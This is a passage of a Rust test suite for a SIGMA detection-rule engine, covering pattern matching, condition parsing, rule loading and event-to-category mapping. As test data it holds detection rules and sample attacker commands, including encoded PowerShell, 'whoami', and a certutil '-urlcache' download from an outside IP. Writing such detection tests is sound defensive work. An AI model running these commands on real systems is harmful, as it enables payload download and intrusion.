use chaos::likelihood::Likelihood;
use chaos::model::event::{EventId, EventSource, Payload, ProviderId, TelemetryEvent};
use chaos::model::host::HostId;
use chaos::model::kind::{
    DnsQueryPayload, EventKind, FileCreate, FileDelete, FileRename, FileWrite, ImageLoad,
    NetworkConnect, NetworkProtocol, ProcessExit, ProcessStart, RegistrySet, ScriptBlock,
    WmiProcess,
};
use chaos::model::process::ProcessId;
use chaos::model::Timestamp;
use chaos::sigma::condition::{parse_condition, Condition};
use chaos::sigma::detect::{
    compile, compile_selection, numeric, selection_matches, test_matches, FieldTest, Op, Selection,
};
use chaos::sigma::pattern::{cidr_match, network_of, wildcard, Address, Readings};
use chaos::sigma::ruleset::{slug, Level, Rule, RuleSet};
use chaos::sigma::view::{
    category_of, field_is_mappable, is_category, known_fields, EventView, Value, CATEGORIES,
};
use chaos::sigma::yaml::Yaml;

fn now() -> Timestamp {
    Timestamp::new(1_700_000_000, 0)
}

fn matches_view(selection: &Selection, view: &EventView) -> bool {
    selection_matches(selection, view, &Readings::none())
}

fn v4(a: u8, b: u8, c: u8, d: u8) -> Address {
    Address::V4(u32::from_be_bytes([a, b, c, d]))
}

/// What the addresses of these tests read as.
fn addresses() -> Readings {
    let listed = [
        ("10.0.0.0", v4(10, 0, 0, 0)),
        ("10.1.2.3", v4(10, 1, 2, 3)),
        ("11.1.2.3", v4(11, 1, 2, 3)),
        ("192.168.0.0", v4(192, 168, 0, 0)),
        ("192.168.5.5", v4(192, 168, 5, 5)),
        ("8.8.8.8", v4(8, 8, 8, 8)),
        ("8.8.8.9", v4(8, 8, 8, 9)),
        ("2001:db8::", Address::V6(0x2001_0db8 << 96)),
        ("2001:db8::1", Address::V6((0x2001_0db8 << 96) + 1)),
        ("2001:db9::1", Address::V6((0x2001_0db9 << 96) + 1)),
    ];
    Readings {
        numbers: Vec::new(),
        addresses: listed
            .into_iter()
            .map(|(text, address)| (text.to_string(), address))
            .collect(),
    }
}

/// A number as a key that orders like it.
fn key(number: f64) -> i64 {
    let bits = (number + 0.0).to_bits() as i64;
    if bits < 0 {
        i64::MIN - bits
    } else {
        bits
    }
}

fn numbers(texts: &[&str]) -> Readings {
    Readings {
        numbers: texts
            .iter()
            .filter_map(|text| Some((text.to_string(), key(text.parse::<f64>().ok()?))))
            .collect(),
        addresses: Vec::new(),
    }
}

fn log_ratio(likelihood: Likelihood) -> f64 {
    (likelihood.hit as f64 / likelihood.miss as f64).ln()
}

// ---- selections and conditions


fn yaml(source: &str) -> Yaml {
    Yaml::documents(source).expect("parses").remove(0)
}

/// Compile one selection. `compile` requires a `condition`, and these tests
/// are about comparison semantics rather than the grammar, so they go in at
/// the selection level.
fn selection(source: &str) -> Selection {
    compile_selection("test", &yaml(source)).expect("compiles")
}

fn process_with(image: &str, parent_image: &str) -> EventView {
    let event = TelemetryEvent::new(
        EventId::new(1),
        HostId::new("h").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-Process"),
        1,
        42,
        42,
        4,
        EventKind::ProcessStart(ProcessStart {
            pid: ProcessId::new(42),
            parent_pid: Some(ProcessId::new(4)),
            executable: image.into(),
            command_line: None,
            user: None,
            working_directory: None,
            started_at: now(),
            image_hash: None,
            integrity_level: None,
            is_wow64: false,
            parent_image: Some(parent_image.into()),
        }),
        Payload::empty(),
    );
    EventView::of(&event).expect("mapped")
}

/// A view built from a real event, so the mapping is exercised too.
fn powershell_view(cmd: &str) -> EventView {
    let event = TelemetryEvent::new(
        EventId::new(1),
        HostId::new("h").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Security-Auditing"),
        4688,
        42,
        42,
        4,
        EventKind::ProcessStart(ProcessStart {
            pid: ProcessId::new(42),
            parent_pid: Some(ProcessId::new(4)),
            executable: "C:\\Windows\\System32\\powershell.exe".into(),
            command_line: Some(cmd.into()),
            user: None,
            working_directory: None,
            started_at: now(),
            image_hash: None,
            integrity_level: None,
            is_wow64: false,
            parent_image: Some("C:\\Windows\\explorer.exe".into()),
        }),
        Payload::empty(),
    );
    EventView::of(&event).expect("mapped")
}

#[test]
fn a_field_equals_selection_matches_case_insensitively() {
    let s = selection("Image: 'C:\\WINDOWS\\SYSTEM32\\POWERSHELL.EXE'\n");
    let view = powershell_view("powershell.exe -enc AAAA");
    assert!(matches_view(&s, &view));
}

#[test]
fn wildcards_are_part_of_the_value() {
    let view = powershell_view("powershell.exe -enc SQBFAFgA");
    assert!(matches_view(
        &selection("CommandLine: '* -enc *'\n"),
        &view
    ));
    assert!(!matches_view(
        &selection("CommandLine: '* -encoded *'\n"),
        &view
    ));
}

#[test]
fn an_endswith_modifier_anchors_at_the_end() {
    let view = powershell_view("C:\\Windows\\System32\\powershell.exe -enc AAAA");
    assert!(matches_view(
        &selection("Image|endswith: 'powershell.exe'\n"),
        &view
    ));
    // The same text in the middle must not satisfy an `endswith`.
    assert!(!matches_view(
        &selection("CommandLine|endswith: 'powershell.exe'\n"),
        &view
    ));
}

#[test]
fn a_null_value_means_the_field_is_absent() {
    let event = {
        TelemetryEvent::new(
            EventId::new(1),
            HostId::new("h").unwrap(),
            now(),
            EventSource::WindowsEtw,
            ProviderId::new("p"),
            1,
            1,
            1,
            4,
            EventKind::ProcessStart(ProcessStart {
                pid: ProcessId::new(1),
                parent_pid: None,
                executable: "C:\\a.exe".into(),
                command_line: None,
                user: None,
                working_directory: None,
                started_at: now(),
                image_hash: None,
                integrity_level: None,
                is_wow64: false,
                parent_image: None,
            }),
            Payload::empty(),
        )
    };
    let view = EventView::of(&event).expect("mapped");
    assert!(matches_view(&selection("CommandLine: null\n"), &view));
}

#[test]
fn a_list_of_maps_is_an_or_of_ands() {
    let s = selection(
        "- Image|endswith: 'cmd.exe'\n  CommandLine|contains: 'whoami'\n\
         - Image|endswith: 'powershell.exe'\n",
    );
    let view = powershell_view("powershell.exe");
    assert!(matches_view(&s, &view));
}

#[test]
fn a_condition_parses_quantifiers_into_concrete_selections() {
    let detection = compile(&yaml(
        "sel_a: {image|endswith: 'x'}\nsel_b: {image|endswith: 'y'}\n\
         filter: {image|endswith: 'z'}\ncondition: 1 of sel_* and not filter\n",
    ))
    .expect("compiles");
    assert_eq!(
        detection.condition,
        Condition::And(
            Box::new(Condition::AtLeast(
                1,
                vec!["sel_a".to_string(), "sel_b".to_string()]
            )),
            Box::new(Condition::Not(Box::new(Condition::Selection(
                "filter".to_string()
            ))))
        )
    );
}

#[test]
fn a_condition_naming_an_undefined_selection_is_rejected() {
    let error = compile(&yaml("sel: {image: 'x'}\ncondition: sel and missing\n"))
        .expect_err("must not compile");
    assert!(error.0.contains("missing"), "{}", error.0);
}

#[test]
fn an_unimplemented_modifier_is_rejected_rather_than_ignored() {
    // The whole point: a rule we cannot evaluate must not load and go quiet.
    let error = compile(&yaml("cmd|re: '.*'\n")).expect_err("must not compile");
    assert!(error.0.contains("|re"), "{}", error.0);
}

#[test]
fn an_aggregation_condition_is_rejected() {
    let error = compile(&yaml("sel: {image: 'x'}\ncondition: sel | count() > 5\n"))
        .expect_err("must not compile");
    assert!(error.0.contains("|"), "{}", error.0);
}

#[test]
fn the_wildcard_matcher_folds_case_and_handles_star_and_question() {
    // The matcher is byte-oriented; this is the contract every string
    // modifier depends on, so it is worth stating directly rather than only
    // through `selection_matches`.
    assert!(wildcard("*\\NMAP.EXE", "C:\\Tools\\nmap.exe", false));
    assert!(!wildcard("*\\NMAP.EXE", "C:\\Tools\\nmap.exe", true));
    // `?` is exactly one byte; `*` is any run of them.
    assert!(wildcard("*c?d.exe", "C:\\x\\cmd.exe", false));
    assert!(!wildcard("*c?d.exe", "C:\\x\\cd.exe", false));
    assert!(wildcard("*a*b", "xxayyb", false));
    assert!(wildcard(
        "C:\\*\\cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        false
    ));
    // A lone star matches the empty string rather than requiring a byte.
    assert!(wildcard("*", "", false));
}

#[test]
fn cidr_matches_only_inside_the_range() {
    assert!(cidr_match("10.0.0.0/8", "10.1.2.3", &addresses()));
    assert!(!cidr_match("10.0.0.0/8", "11.1.2.3", &addresses()));
    assert!(cidr_match("192.168.0.0/16", "192.168.5.5", &addresses()));
    assert!(cidr_match("2001:db8::/32", "2001:db8::1", &addresses()));
    assert!(!cidr_match("2001:db8::/32", "2001:db9::1", &addresses()));
    // A host address with no prefix is an exact match.
    assert!(cidr_match("8.8.8.8", "8.8.8.8", &addresses()));
    assert!(!cidr_match("8.8.8.8", "8.8.8.9", &addresses()));
}

#[test]
fn numeric_modifiers_compare_as_numbers_not_strings() {
    // The trap: "9" > "10" as text and not as numbers.
    assert!(numeric(&Value::Int(10), "9", Op::Greater, &numbers(&["9", "10"])));
    assert!(!numeric(&Value::Int(9), "10", Op::Greater, &numbers(&["9", "10"])));
}

#[test]
fn a_fieldref_compares_two_fields_of_the_same_event() {
    // `ParentImage|fieldref: Image` is a real SIGMA idiom for "this process
    // re-launched itself"; both sides are read from the same view.
    let s = selection("ParentImage|fieldref: Image\n");
    assert!(matches_view(
        &s,
        &process_with("C:\\a.exe", "C:\\a.exe")
    ));
    assert!(!matches_view(
        &s,
        &process_with("C:\\a.exe", "C:\\b.exe")
    ));
}

// ---- views


fn start(cmd: Option<&str>) -> TelemetryEvent {
    TelemetryEvent::new(
        EventId::new(1),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-Process"),
        1,
        42,
        42,
        4,
        EventKind::ProcessStart(ProcessStart {
            pid: ProcessId::new(42),
            parent_pid: Some(ProcessId::new(4)),
            executable: "C:\\Windows\\Temp\\dropper.exe".into(),
            command_line: cmd.map(Into::into),
            user: None,
            working_directory: None,
            started_at: now(),
            image_hash: None,
            integrity_level: None,
            is_wow64: false,
            parent_image: Some("C:\\Windows\\explorer.exe".into()),
        }),
        Payload::empty(),
    )
}

#[test]
fn a_process_start_is_process_creation_with_sysmon_field_names() {
    let event = start(Some("powershell -enc AAAA"));
    let view = EventView::of(&event).expect("mapped");
    assert_eq!(view.category, "process_creation");
    assert_eq!(
        view.get("Image").unwrap().as_text(),
        "C:\\Windows\\Temp\\dropper.exe"
    );
    assert_eq!(
        view.get("CommandLine").unwrap().as_text(),
        "powershell -enc AAAA"
    );
    assert_eq!(
        view.get("ParentImage").unwrap().as_text(),
        "C:\\Windows\\explorer.exe"
    );
    assert_eq!(view.get("ProcessId").unwrap().as_int(), Some(42));
    // The universal fields are on every view.
    assert_eq!(view.get("EventID").unwrap().as_int(), Some(1));
    assert!(view.get("Provider_Name").is_some());
}

#[test]
fn an_absent_field_is_absent_rather_than_empty() {
    // The distinction a `field: null` rule depends on. A command line that
    // was not collected must not read as a command line that was empty.
    let view = EventView::of(&start(None)).expect("mapped");
    assert!(view.get("CommandLine").is_none());
}

#[test]
fn a_shape_with_no_sigma_category_is_not_offered_one() {
    // WMI has no unambiguous SIGMA category, and inventing a field name for
    // it would produce rules that load and never fire.
    let event = TelemetryEvent::new(
        EventId::new(2),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-File"),
        27,
        42,
        42,
        4,
        EventKind::FileDelete(FileDelete {
            pid: ProcessId::new(42),
            path: "C:\\Temp\\a.exe".into(),
            deleted_at: now(),
        }),
        Payload::empty(),
    );
    // file_delete *is* mapped; the universal fields come with it.
    let view = EventView::of(&event).expect("file_delete is mapped");
    assert_eq!(view.category, "file_delete");
    assert_eq!(
        view.get("TargetFilename").unwrap().as_text(),
        "C:\\Temp\\a.exe"
    );
}

#[test]
fn every_claimed_category_has_a_field_list() {
    for category in CATEGORIES {
        assert!(
            !known_fields(category).is_empty(),
            "{category} is claimed but names no fields"
        );
    }
}

/// An event of the given shape, with the identity fields filled but nothing
/// else, so a `kind` can be exercised on its own.
fn event_of(kind: EventKind) -> TelemetryEvent {
    TelemetryEvent::new(
        EventId::new(1),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-Process"),
        1,
        42,
        42,
        4,
        kind,
        Payload::empty(),
    )
}

#[test]
fn category_of_agrees_with_the_view_for_every_mapped_kind() {
    // The index in `RuleSet` is keyed on `category_of`; the rules themselves
    // are keyed on the view's category. If the two ever disagree, a rule is
    // silently evaluated for the wrong shape or not at all, so this pins them
    // to each other for every kind either one claims.
    let now = now();
    let pid = ProcessId::new(42);
    let cases: Vec<(EventKind, Option<&'static str>)> = vec![
        (
            EventKind::ProcessStart(ProcessStart {
                pid,
                parent_pid: Some(ProcessId::new(4)),
                executable: "C:\\Windows\\Temp\\dropper.exe".into(),
                command_line: None,
                user: None,
                working_directory: None,
                started_at: now,
                image_hash: None,
                integrity_level: None,
                is_wow64: false,
                parent_image: None,
            }),
            Some("process_creation"),
        ),
        (
            EventKind::ProcessExit(ProcessExit {
                pid,
                exit_code: Some(0),
                exited_at: now,
            }),
            Some("process_termination"),
        ),
        (
            EventKind::ImageLoad(ImageLoad {
                pid,
                image_path: "C:\\Windows\\System32\\ntdll.dll".into(),
                image_hash: None,
                signed: Some(true),
                signer: None,
                loaded_at: now,
                is_wow64: false,
            }),
            Some("image_load"),
        ),
        (
            EventKind::RegistrySet(RegistrySet {
                pid,
                key_path: "HKLM\\Software\\Run".into(),
                value_name: Some("Updater".into()),
                value_data: None,
                set_at: now,
            }),
            Some("registry_set"),
        ),
        (
            EventKind::FileCreate(FileCreate {
                pid,
                path: "C:\\Temp\\a.exe".into(),
                created_at: now,
            }),
            Some("file_event"),
        ),
        (
            EventKind::FileDelete(FileDelete {
                pid,
                path: "C:\\Temp\\a.exe".into(),
                deleted_at: now,
            }),
            Some("file_delete"),
        ),
        (
            EventKind::FileRename(FileRename {
                pid,
                old_path: "C:\\a.tmp".into(),
                new_path: "C:\\a.exe".into(),
                renamed_at: now,
            }),
            Some("file_rename"),
        ),
        (
            EventKind::DnsQuery(DnsQueryPayload {
                pid,
                query_name: "example.test".into(),
                query_type: "A".into(),
                answers: Vec::new(),
                response_code: None,
                queried_at: now,
            }),
            Some("dns_query"),
        ),
        (
            EventKind::NetworkConnect(NetworkConnect {
                pid,
                source_ip: "10.0.0.1".into(),
                source_port: 1234,
                destination_ip: "10.0.0.2".into(),
                destination_port: 443,
                protocol: NetworkProtocol::Tcp,
                initiated_at: now,
            }),
            Some("network_connection"),
        ),
        (
            EventKind::ScriptBlock(ScriptBlock {
                pid,
                text: "Invoke-Expression $x".into(),
                script_block_id: None,
                path: None,
                message_number: None,
                message_total: None,
                recorded_at: now,
            }),
            Some("ps_script"),
        ),
        // The shapes with no SIGMA category, and the ones a mis-mapped
        // category would otherwise sneak through.
        (
            EventKind::FileWrite(FileWrite {
                pid,
                path: "C:\\Temp\\a.log".into(),
                size: None,
                bytes_written: None,
                written_at: now,
            }),
            None,
        ),
        (
            EventKind::WmiProcess(WmiProcess {
                pid,
                command_line: "cmd /c whoami".into(),
                user: None,
                client_pid: None,
                client_machine: None,
                is_local: Some(true),
                created_at: now,
            }),
            None,
        ),
    ];

    for (kind, expected) in cases {
        let event = event_of(kind);
        assert_eq!(category_of(&event), expected);
        assert_eq!(EventView::of(&event).map(|v| v.category), expected);
    }
}

// ---- rules


/// A minimal, well-formed rule.
const RULE: &str = r#"
title: Encoded PowerShell Command Line
id: 11111111-2222-3333-4444-555555555555
status: test
level: high
tags:
    - attack.execution
    - attack.t1059.001
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\powershell.exe'
        CommandLine|contains:
            - ' -enc '
            - ' -EncodedCommand '
    condition: selection
"#;

fn process(image: &str, cmd: &str) -> TelemetryEvent {
    TelemetryEvent::new(
        EventId::new(1),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Security-Auditing"),
        4688,
        42,
        42,
        4,
        EventKind::ProcessStart(ProcessStart {
            pid: ProcessId::new(42),
            parent_pid: Some(ProcessId::new(4)),
            executable: image.into(),
            command_line: Some(cmd.into()),
            user: None,
            working_directory: None,
            started_at: now(),
            image_hash: None,
            integrity_level: None,
            is_wow64: false,
            parent_image: None,
        }),
        Payload::empty(),
    )
}

#[test]
fn a_rule_parses_into_its_parts() {
    let rule = Rule::parse(RULE).expect("parses");
    assert_eq!(rule.title, "Encoded PowerShell Command Line");
    assert_eq!(rule.level, Level::High);
    assert_eq!(rule.technique, "T1059.001");
    assert_eq!(rule.logsource.category, "process_creation");
    assert!(rule.can_fire(), "{:?}", rule.unmapped_fields);
}

#[test]
fn a_rule_fires_on_the_event_it_describes() {
    let rules = RuleSet::from_rules(vec![Rule::parse(RULE).expect("parses")]);
    let hits = rules.evaluate(&process(
        "C:\\Windows\\System32\\powershell.exe",
        "powershell.exe -EncodedCommand SQBFAFgA",
    ), &Readings::none());
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].technique, "T1059.001");
    // The likelihood comes from the level, and it is a synthesis.
    assert_eq!(hits[0].likelihood, Level::High.likelihood());
}

#[test]
fn the_same_rule_does_not_fire_on_an_ordinary_invocation() {
    let rules = RuleSet::from_rules(vec![Rule::parse(RULE).expect("parses")]);
    assert!(
        rules
            .evaluate(&process(
                "C:\\Windows\\System32\\powershell.exe",
                "powershell Get-Service"
            ), &Readings::none())
            .is_empty()
    );
}

#[test]
fn a_rule_reading_a_field_we_do_not_emit_is_reported_not_hidden() {
    // The failure this crate exists to make visible: the rule loads, and can
    // never fire. `OriginalFileName` is a real Sysmon field and a plausible
    // thing for a rule to key on; this sensor does not carry it.
    let source = RULE.replace(
        "Image|endswith: '\\powershell.exe'",
        "OriginalFileName|endswith: 'powershell.exe'",
    );
    let rule = Rule::parse(&source).expect("parses");
    assert!(!rule.can_fire());
    assert_eq!(rule.unmapped_fields, vec!["OriginalFileName".to_string()]);
}

#[test]
fn a_level_becomes_a_likelihood_monotone_in_severity() {
    let mut previous = log_ratio(Level::Informational.likelihood());
    for level in [Level::Low, Level::Medium, Level::High, Level::Critical] {
        let current = log_ratio(level.likelihood());
        assert!(current > previous, "{level:?} is not stronger");
        previous = current;
    }
}

#[test]
fn a_service_based_rule_is_rejected_with_a_reason() {
    // A large share of the Windows ruleset is keyed on a service. Saying so
    // is better than loading it into a sensor that can never match it.
    let source = RULE.replace(
        "    category: process_creation",
        "    service: security\n    category: process_creation",
    );
    let error = Rule::parse(&source).expect_err("must be rejected");
    assert!(error.0.contains("service"), "{}", error.0);
}

#[test]
fn an_unmapped_category_is_rejected_with_a_reason() {
    let source = RULE.replace("category: process_creation", "category: registry_event");
    let error = Rule::parse(&source).expect_err("must be rejected");
    assert!(error.0.contains("registry_event"), "{}", error.0);
}

#[test]
fn a_rule_without_a_title_is_rejected() {
    let error = Rule::parse("logsource:\n    category: process_creation\ndetection:\n    s:\n        Image: 'x'\n    condition: s\n")
        .expect_err("must be rejected");
    assert!(error.0.contains("title"), "{}", error.0);
}

#[test]
fn a_tag_becomes_a_technique_and_a_missing_one_becomes_ta0000() {
    let source = RULE.replace("    - attack.t1059.001\n", "");
    let rule = Rule::parse(&source).expect("parses");
    assert_eq!(rule.technique, "TA0000");
}

#[test]
fn a_field_we_cannot_emit_in_one_alternative_does_not_kill_the_rule() {
    // The shape a real ruleset is full of. `selection_img` ORs a field we
    // have with one we do not, so the rule still works and calling it dead
    // would be wrong — the same mistake as trusting a rule that can never
    // fire, pointed the other way.
    let source = r#"
title: Certutil download
id: test-disjunction
level: medium
tags:
    - attack.t1105
logsource:
    product: windows
    category: process_creation
detection:
    selection_img:
        - Image|endswith: '\certutil.exe'
        - OriginalFileName: 'CertUtil.exe'
    selection_flags:
        CommandLine|contains: 'urlcache'
    condition: all of selection_*
"#;
    let rule = Rule::parse(source).expect("parses");
    assert!(rule.can_fire(), "the Image branch still works");
    assert_eq!(rule.unmapped_fields, vec!["OriginalFileName".to_string()]);

    let rules = RuleSet::from_rules(vec![rule]);
    assert_eq!(
        rules
            .evaluate(&process(
                "C:\\Windows\\System32\\certutil.exe",
                "certutil -urlcache -f http://198.51.100.7/a a"
            ), &Readings::none())
            .len(),
        1,
        "and it fires on the event it describes"
    );
}

/// An event of the given shape, for exercising the evaluator's category path.
fn file_event(pid: ProcessId, path: &str, created: bool) -> TelemetryEvent {
    let now = now();
    let kind = if created {
        EventKind::FileCreate(FileCreate {
            pid,
            path: path.into(),
            created_at: now,
        })
    } else {
        EventKind::FileWrite(FileWrite {
            pid,
            path: path.into(),
            size: None,
            bytes_written: None,
            written_at: now,
        })
    };
    TelemetryEvent::new(
        EventId::new(2),
        HostId::new("host-a").unwrap(),
        now,
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-File"),
        11,
        42,
        42,
        4,
        kind,
        Payload::empty(),
    )
}

#[test]
fn an_event_no_rule_is_written_for_evaluates_to_nothing() {
    // The early return. A ruleset is mostly rules for shapes an event is not,
    // so evaluation must not build a view — nor scan the rules — for them.
    let rules = RuleSet::from_rules(vec![Rule::parse(RULE).expect("parses")]);
    assert!(!rules.is_empty(), "the ruleset really is non-empty");
    // `file_event` is a mapped category with no rule in this ruleset.
    assert!(
        rules
            .evaluate(&file_event(ProcessId::new(42), "C:\\Temp\\a.exe", true), &Readings::none())
            .is_empty()
    );
    // And a shape with no SIGMA category at all takes the same path.
    assert!(
        rules
            .evaluate(&file_event(ProcessId::new(42), "C:\\Temp\\a.log", false), &Readings::none())
            .is_empty()
    );
}

#[test]
fn the_index_keeps_every_rule_for_its_category() {
    // The index is what makes evaluation cheap; a rule dropped from it would
    // be a rule that stops firing with nothing to show for it.
    let rules = RuleSet::from_rules(vec![
        Rule::parse(RULE).expect("parses"),
        Rule::parse(RULE).expect("parses"),
    ]);
    assert_eq!(
        rules
            .evaluate(&process(
                "C:\\Windows\\System32\\powershell.exe",
                "powershell.exe -EncodedCommand SQBFAFgA"
            ), &Readings::none())
            .len(),
        2,
        "both copies are indexed under process_creation"
    );
}

// ---- more of the same

#[test]
fn a_star_in_the_pattern_matches_a_star_and_more() {
    assert!(wildcard("a*c", "a*bc", false));
    assert!(wildcard("a*", "a*", true));
    assert!(wildcard("*b", "*ab", false));
}

#[test]
fn a_prefix_out_of_range_matches_nothing() {
    assert!(!cidr_match("10.0.0.0/33", "10.1.2.3", &addresses()));
    assert!(!cidr_match("10.0.0.0/x", "10.1.2.3", &addresses()));
    assert!(!cidr_match("2001:db8::/129", "2001:db8::1", &addresses()));
    assert!(!cidr_match("2001:db8::/32", "10.1.2.3", &addresses()));
    assert!(cidr_match("10.0.0.0/0", "11.1.2.3", &addresses()));
    assert!(cidr_match(" 10.0.0.0 / 8 ", " 10.1.2.3 ", &addresses()));
    assert_eq!(network_of(" 10.0.0.0 / 8 "), "10.0.0.0");
    assert_eq!(network_of("8.8.8.8"), "8.8.8.8");
}

#[test]
fn numbers_relate_both_ways_and_a_word_is_no_number() {
    let readings = numbers(&["-1.5", "2", "0"]);
    assert!(numeric(&Value::Text("-1.5".into()), "2", Op::Less, &readings));
    assert!(numeric(&Value::Int(2), " 2 ", Op::GreaterEq, &readings));
    assert!(numeric(&Value::Int(2), "2", Op::LessEq, &readings));
    assert!(!numeric(&Value::Int(2), "2", Op::Less, &readings));
    assert!(!numeric(&Value::Text("two".into()), "2", Op::Less, &readings));
    assert!(!numeric(&Value::Bool(true), "0", Op::Greater, &readings));
}

#[test]
fn a_fieldref_folds_case_beyond_ascii_unless_cased() {
    let s = selection("ParentImage|fieldref: Image\n");
    assert!(matches_view(&s, &process_with("C:\\\u{c4}.exe", "c:\\\u{e4}.EXE")));
    assert!(matches_view(&s, &process_with("C:\\a.exe", "c:\\A.EXE")));
    let cased = selection("ParentImage|fieldref|cased: Image\n");
    assert!(!matches_view(&cased, &process_with("C:\\a.exe", "c:\\a.EXE")));
}

#[test]
fn every_needle_must_match_where_all_is_said() {
    let view = powershell_view("powershell.exe -enc AAAA -nop");
    assert!(matches_view(
        &selection("CommandLine|contains|all: ['-enc', '-nop']\n"),
        &view
    ));
    assert!(!matches_view(
        &selection("CommandLine|contains|all: ['-enc', '-hidden']\n"),
        &view
    ));
    assert!(matches_view(
        &selection("CommandLine|contains: ['-enc', '-hidden']\n"),
        &view
    ));
}

#[test]
fn every_field_referred_to_must_agree_where_all_is_said() {
    // The command line of these events is absent, so it agrees with nothing.
    let view = process_with("C:\\a.exe", "C:\\a.exe");
    assert!(matches_view(&selection("ParentImage|fieldref: [Image, CommandLine]\n"), &view));
    assert!(!matches_view(&selection("ParentImage|fieldref|all: [Image, CommandLine]\n"), &view));
    assert!(!matches_view(&selection("ParentImage|fieldref|all: [CommandLine, Image]\n"), &view));
    assert!(matches_view(&selection("ParentImage|fieldref|all: [Image, ParentImage]\n"), &view));
    assert!(!matches_view(
        &selection("ParentImage|fieldref|all: [Image, ParentImage]\n"),
        &process_with("C:\\a.exe", "C:\\b.exe")
    ));
    // Present on both sides, and different.
    let test = FieldTest {
        field: "Image".to_string(),
        op: Op::FieldRef,
        needles: vec!["ParentImage".to_string(), "CommandLine".to_string()],
        all: true,
        case_sensitive: false,
    };
    let explorer = "C:\\Windows\\explorer.exe";
    let view = powershell_view(explorer);
    let swapped = FieldTest { field: "ParentImage".to_string(), ..test.clone() };
    let any = FieldTest { all: false, ..swapped.clone() };
    assert!(!test_matches(&test, &view, &Readings::none()));
    assert!(test_matches(&swapped, &view, &Readings::none()));
    assert!(test_matches(&any, &view, &Readings::none()));
    let other = powershell_view("b");
    assert!(!test_matches(&swapped, &other, &Readings::none()));
    assert!(test_matches(&any, &other, &Readings::none()));
}

#[test]
fn a_reference_to_a_field_no_event_carries_kills_a_rule_only_under_all() {
    let detection = |key: &str| {
        compile(&yaml(&format!(
            "sel:\n  ParentImage|{key}: [Image, OriginalFileName]\ncondition: sel\n"
        )))
        .expect("compiles")
    };
    let available = ["Image", "ParentImage"];
    assert!(detection("fieldref").satisfiable(&available));
    assert!(!detection("fieldref|all").satisfiable(&available));
    assert!(detection("fieldref|all").satisfiable(&["Image", "ParentImage", "OriginalFileName"]));
    assert!(!detection("fieldref").satisfiable(&["ParentImage"]));
}

#[test]
fn conditions_bind_and_tighter_than_or() {
    let names: Vec<String> = ["a", "b", "c"].iter().map(|n| n.to_string()).collect();
    let selection = |name: &str| Box::new(Condition::Selection(name.to_string()));
    assert_eq!(
        parse_condition("a or b and not c", &names).unwrap(),
        Condition::Or(
            selection("a"),
            Box::new(Condition::And(
                selection("b"),
                Box::new(Condition::Not(selection("c")))
            ))
        )
    );
    assert_eq!(
        parse_condition("(a or b) and c", &names).unwrap(),
        Condition::And(
            Box::new(Condition::Or(selection("a"), selection("b"))),
            selection("c")
        )
    );
    assert_eq!(
        parse_condition("all of them", &names).unwrap(),
        Condition::AtLeast(3, names.clone())
    );
    assert!(parse_condition("", &names).is_err());
    assert!(parse_condition("(a", &names).is_err());
    assert!(parse_condition("a b", &names).is_err());
}

#[test]
fn a_broken_document_is_a_load_error() {
    assert!(Rule::parse("title: [unclosed").unwrap_err().0.starts_with("not YAML: "));
    assert_eq!(Rule::parse("").unwrap_err().0, "empty document");
}

#[test]
fn levels_parse_by_name() {
    assert_eq!(Level::parse("high"), Level::High);
    assert_eq!(Level::parse("critical"), Level::Critical);
    assert_eq!(Level::parse("no such level"), Level::Informational);
    assert_eq!(Level::Low.as_str(), "low");
}

#[test]
fn a_title_becomes_an_identity_where_there_is_none() {
    println!("{}", slug("Encoded PowerShell!  Command"));
    let source = RULE.replace("id: 11111111-2222-3333-4444-555555555555\n", "");
    let rule = Rule::parse(&source).expect("parses");
    assert_eq!(rule.id, slug("Encoded PowerShell Command Line"));
}

#[test]
fn every_source_ends_as_a_rule_or_as_a_problem() {
    let sources = vec![
        ("a.yml".to_string(), Ok(RULE.to_string())),
        ("b.yml".to_string(), Ok("title: x\n".to_string())),
        ("c.yml".to_string(), Err("permission denied".to_string())),
    ];
    let rules = RuleSet::from_sources(&sources);
    assert_eq!(rules.len(), 1);
    assert_eq!(rules.problems().len(), 2);
    assert!(rules.problems()[0].contains("b.yml"));
    assert!(rules.problems()[1].contains("permission denied"));
    assert_eq!(
        rules.title_of("11111111-2222-3333-4444-555555555555"),
        Some("Encoded PowerShell Command Line")
    );
    assert_eq!(rules.title_of("nobody"), None);
    assert_eq!(rules.rules().len(), 1);
    assert!(RuleSet::empty().is_empty());
    assert!(RuleSet::is_rule_extension("yml"));
    assert!(RuleSet::is_rule_extension("yaml"));
    assert!(!RuleSet::is_rule_extension("txt"));
}

#[test]
fn a_dead_rule_is_listed_and_never_matches() {
    let source = RULE.replace(
        "Image|endswith: '\\powershell.exe'",
        "OriginalFileName|endswith: 'powershell.exe'",
    );
    let rules = RuleSet::from_rules(vec![Rule::parse(&source).expect("parses")]);
    assert_eq!(rules.rules_that_cannot_fire().len(), 1);
    assert!(rules
        .evaluate(
            &process(
                "C:\\Windows\\System32\\powershell.exe",
                "powershell.exe -EncodedCommand SQBFAFgA"
            ),
            &Readings::none()
        )
        .is_empty());
}

#[test]
fn a_view_carries_only_fields_its_category_names() {
    let view = EventView::of(&process("C:\\a.exe", "a")).expect("mapped");
    for field in view.field_names() {
        assert!(field_is_mappable("process_creation", field), "{field}");
    }
    let names = view.field_names();
    let mut ascending = names.clone();
    ascending.sort_unstable();
    assert_eq!(names, ascending);
    assert!(names.len() > 1);
    assert!(is_category("dns_query"));
    assert!(!is_category("registry_event"));
    assert!(!field_is_mappable("process_creation", "OriginalFileName"));
}

#[test]
fn a_range_and_a_number_reach_through_a_rule() {
    let event = event_of(EventKind::NetworkConnect(NetworkConnect {
        pid: ProcessId::new(42),
        source_ip: "10.1.2.3".into(),
        source_port: 1234,
